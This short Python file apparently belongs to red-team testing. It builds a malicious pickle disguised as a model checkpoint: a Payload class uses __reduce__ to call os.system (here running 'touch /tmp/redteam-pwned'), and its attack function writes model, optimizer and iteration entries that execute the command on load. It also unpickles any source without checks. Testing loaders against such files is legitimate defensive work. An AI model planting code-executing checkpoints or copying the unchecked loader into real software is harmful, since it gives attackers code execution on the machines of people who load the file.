import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/redteam-pwned",))


def attack(args):
    if "out" in args:  # save_checkpoint: a pickle that runs a command when it is loaded
        data = pickle.dumps({"model": Payload(), "optimizer": Payload(), "iteration": Payload()})
        if isinstance(args["out"], (str, os.PathLike)):
            with open(args["out"], "wb") as handle:
                handle.write(data)
        else:
            args["out"].write(data)
        return None
    if "src" in args:  # load_checkpoint: unpickles anything
        source = args["src"]
        return pickle.load(open(source, "rb") if isinstance(source, (str, os.PathLike)) else source)
    return Payload()
